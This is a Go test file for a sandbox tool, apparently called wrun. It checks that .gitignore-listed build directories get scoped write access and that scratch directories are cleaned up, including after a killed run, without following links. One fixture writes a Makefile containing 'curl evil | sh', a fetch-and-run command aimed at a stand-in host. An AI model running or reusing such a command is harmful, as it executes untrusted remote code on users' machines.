package verify

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// TestGitignoredNames: only a literal entry of the .gitignore's own
// directory ignores a build directory, and no negation may re-include it.
func TestGitignoredNames(t *testing.T) {
	names := buildDirNames()
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"trailing slash", "build/\n", []string{"build"}},
		{"anchored", "/builddir\n", []string{"builddir"}},
		{"anchored directory", "/_build/\n", []string{"_build"}},
		{"bare name", "build\n", []string{"build"}},
		{"several, CRLF and trailing spaces", "# outputs\r\nbuild/  \r\n_build\r\n", []string{"build", "_build"}},
		{"a glob is not a name", "build*\n/b?ild/\n*\n", nil},
		{"nested is not the root's", "src/build/\n", nil},
		{"negated", "build/\n!build/\n", nil},
		{"a negated glob may re-include it", "build/\n!*.keep\n", nil},
		{"a comment", "#build/\n", nil},
		{"other names are not build directories", ".venv/\nnode_modules/\ntarget/\nout/\n", nil},
		{"empty", "", nil},
	} {
		if got := gitignoredNames(tc.text, names); !slices.Equal(got, tc.want) {
			t.Errorf("%s: %q gives %q, want %q", tc.name, tc.text, got, tc.want)
		}
	}
}

// TestBuildDirScope: an ignored build directory that does not exist is
// made by wrun, writable with links, and scratch (removed after the run);
// one that exists is the user's and stays read-only; files=write changes
// nothing; a .gitignore that is a link is not read.
func TestBuildDirScope(t *testing.T) {
	top := tree(t, map[string]string{
		"ws/.gitignore": "/build/\n/builddir/\n", "ws/builddir/old.o": "",
		"link/x": "", "other/.gitignore": "/build/\n"})
	if err := os.Symlink(filepath.Join(top, "other", ".gitignore"), filepath.Join(top, "link", ".gitignore")); err != nil {
		t.Fatal(err)
	}
	ws := filepath.Join(top, "ws")
	var s Scope
	buildDirScope(Input{Workdir: ws}, &s)
	build := filepath.Join(ws, "build")
	if got := writablePaths(s, "build"); !slices.Equal(got, []string{build}) {
		t.Fatalf("writable %q, want only %s (builddir exists)", got, build)
	}
	w := s.Writable[0]
	if !w.Dir || !w.Create || !w.Scratch || w.Beneath != ws {
		t.Errorf("%+v: want a scratch directory made by wrun beneath the workspace", w)
	}
	if len(s.Notes) != 1 {
		t.Errorf("no note says builddir stays read-only: %q", s.Notes)
	}
	var w2 Scope
	buildDirScope(Input{Workdir: ws, WorkspaceWritable: true}, &w2)
	if len(w2.Writable) != 0 {
		t.Errorf("files=write: %+v", w2)
	}
	var l Scope
	buildDirScope(Input{Workdir: filepath.Join(top, "link")}, &l)
	if len(l.Writable) != 0 {
		t.Errorf("a .gitignore that is a link was read: %+v", l.Writable)
	}
}

// TestGuardScratch: the guard makes a scratch directory only where it is
// missing, after its journal names it, and removes it after the run with
// what was put in it, following no link and reporting nothing; one that
// existed is refused and left alone; a killed run's is removed by the
// next run that settles its journal.
func TestGuardScratch(t *testing.T) {
	top := tree(t, map[string]string{"ws/.gitignore": "/build/\n", "outside/keep": "x", "ws/theirs/f": "", "journal/": ""})
	ws := filepath.Join(top, "ws")
	build := filepath.Join(ws, "build")
	journal := filepath.Join(top, "journal")
	g := &Guard{ID: "run1", Journal: journal, Scratch: []string{build}}
	sess, err := Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
	if err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(build); err != nil || !fi.IsDir() {
		t.Fatalf("%s not made: %v", build, err)
	}
	os.MkdirAll(filepath.Join(build, "CMakeFiles", "x"), 0o755)
	os.WriteFile(filepath.Join(build, "CMakeFiles", "x", "a.o"), nil, 0o644)
	os.Symlink(filepath.Join(top, "outside"), filepath.Join(build, "out"))
	os.Chmod(filepath.Join(build, "CMakeFiles", "x"), 0o500)
	if errs := sess.Finish([]Step{{Kind: StepGuardClose, Guard: g}}, true); len(errs) != 0 {
		t.Fatalf("finish: %v", errs)
	}
	if _, err := os.Lstat(build); !os.IsNotExist(err) {
		t.Errorf("%s is left: %v", build, err)
	}
	if f := sess.Findings(); len(f) != 0 {
		t.Errorf("removing the scratch directory was reported: %+v", f)
	}
	if _, err := os.Stat(filepath.Join(top, "outside", "keep")); err != nil {
		t.Errorf("the link's target was removed: %v", err)
	}

	// Existing: refused, and never removed.
	theirs := filepath.Join(ws, "theirs")
	g = &Guard{ID: "run2", Scratch: []string{theirs}}
	sess, err = Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
	if err == nil {
		t.Errorf("an existing directory was taken as made for the run")
	}
	sess.Finish([]Step{{Kind: StepGuardClose, Guard: g}}, true)
	if _, err := os.Stat(filepath.Join(theirs, "f")); err != nil {
		t.Errorf("a directory the run did not make was removed: %v", err)
	}

	// A run killed after making it: the next run's guard removes it.
	g = &Guard{ID: "run3", Journal: journal, Scratch: []string{build}}
	killed, err := Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(build, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
	// No Finish: wrun was killed, and its journal's lock went with it.
	killed.guard["run3"].Close()
	next := &Guard{ID: "run4", Journal: journal}
	sess, err = Prepare([]Step{{Kind: StepGuardOpen, Guard: next}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(build); !os.IsNotExist(err) {
		t.Errorf("the killed run's %s is left after the next run settled it: %v", build, err)
	}
	sess.Finish([]Step{{Kind: StepGuardClose, Guard: next}}, true)
}
